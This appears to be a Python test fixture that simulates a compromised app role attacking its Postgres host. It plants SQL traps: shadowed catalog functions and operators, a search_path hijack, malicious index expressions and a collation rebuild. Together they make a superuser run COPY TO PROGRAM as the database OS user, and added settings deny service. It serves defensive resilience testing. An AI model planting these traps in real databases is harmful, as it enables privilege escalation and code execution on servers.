"""An app that was taken over: whatever its role may put into its own database tries to become Postgres' user."""

from __future__ import annotations

import hashlib
import shutil
from importlib.resources import files

from psycopg import sql

from tests.replication.harness import Site

OURS = files("resilience.host") / "files"
PICTURE = b"a picture"
NAME = hashlib.sha256(PICTURE).hexdigest()
QUERY = {
    "database": "plaza",
    "sql": "SELECT sha256 FROM media ORDER BY id",
    "newer": "SELECT id, sha256 FROM media WHERE id > %s ORDER BY id LIMIT %s",
}
SEIZE = """
CREATE FUNCTION public.seize() RETURNS int LANGUAGE plpgsql AS $$
BEGIN
  BEGIN EXECUTE 'RESET SESSION AUTHORIZATION'; EXCEPTION WHEN OTHERS THEN NULL; END;
  BEGIN EXECUTE 'RESET ROLE'; EXCEPTION WHEN OTHERS THEN NULL; END;
  EXECUTE format('COPY (SELECT current_user, current_query()) TO PROGRAM %L', {program});
  RETURN 1;
EXCEPTION WHEN insufficient_privilege THEN RETURN 1;
END $$
"""
"""Whoever is a superuser and calls this runs a program as Postgres' user, in recovery, too."""
TRAPS = (
    "CREATE FUNCTION public.one(n int) RETURNS int IMMUTABLE LANGUAGE plpgsql AS 'BEGIN RETURN public.seize(); END'",
    "CREATE TABLE public.posts (id int PRIMARY KEY, sha256 text)",
    f"INSERT INTO public.posts VALUES (1, '{NAME}')",  # noqa: S608 - ours
    "CREATE SEQUENCE public.numbers",
    # What the planner asks of any query over a table: parts that never change are reckoned at once, by whoever asks.
    "CREATE INDEX ON public.posts ((id + public.one(1)))",
    "CREATE COLLATION public.swedish (provider = icu, locale = 'sv')",
    "CREATE INDEX ON public.posts (sha256 COLLATE public.swedish) WHERE id >= public.one(0)",
    # Names before ours: nearer in type, or first in the path.
    "CREATE VIEW public.media AS SELECT id + public.seize() - 1 AS id, sha256 FROM public.posts",
    "CREATE FUNCTION public.pg_database_size(text) RETURNS bigint LANGUAGE sql AS 'SELECT public.seize()::bigint'",
    "CREATE FUNCTION public.pg_logical_emit_message(boolean, text, text) RETURNS pg_lsn LANGUAGE sql"
    " AS $$ SELECT '0/0'::pg_lsn + public.seize() $$",
    "CREATE FUNCTION public.setval(regclass, bigint) RETURNS bigint LANGUAGE sql AS 'SELECT public.seize()::bigint'",
    "CREATE FUNCTION public.more(numeric, int) RETURNS boolean LANGUAGE sql AS 'SELECT public.seize() > 0'",
    "CREATE OPERATOR public.> (FUNCTION = public.more, LEFTARG = numeric, RIGHTARG = int)",
    "ALTER DATABASE plaza SET search_path = public, pg_catalog",
    # What could keep others from their work there.
    "ALTER DATABASE plaza SET role = plaza",
    "ALTER DATABASE plaza SET default_transaction_read_only = on",
    "ALTER DATABASE plaza SET statement_timeout = '1ms'",
    "ALTER DATABASE plaza SET client_encoding = 'SQL_ASCII'",
)


def as_on_a_host(site: Site) -> None:
    """From its next start on, who may be whom is as our hosts' own files say."""
    paths = {name: shutil.copy(str(OURS / name), site.folder / name) for name in ("pg_hba.conf", "pg_ident.conf")}
    site.more_options = f"-c hba_file={paths['pg_hba.conf']} -c ident_file={paths['pg_ident.conf']}"


def take_over(site: Site, program: str) -> None:
    """The app's role sets all its traps; a collation is no more what it was, so that indexes have to be built anew."""
    with site.connect() as db:
        db.execute("CREATE ROLE plaza LOGIN")
        db.execute("CREATE DATABASE plaza OWNER plaza")
    with site.connect(dbname="plaza") as db:
        db.execute("SET SESSION AUTHORIZATION plaza")
        db.execute(sql.SQL(SEIZE).format(program=program))
        for trap in TRAPS:
            db.execute(trap)
        db.execute("RESET SESSION AUTHORIZATION")
        db.execute("UPDATE pg_catalog.pg_collation SET collversion = 'another' WHERE collname = 'swedish'")
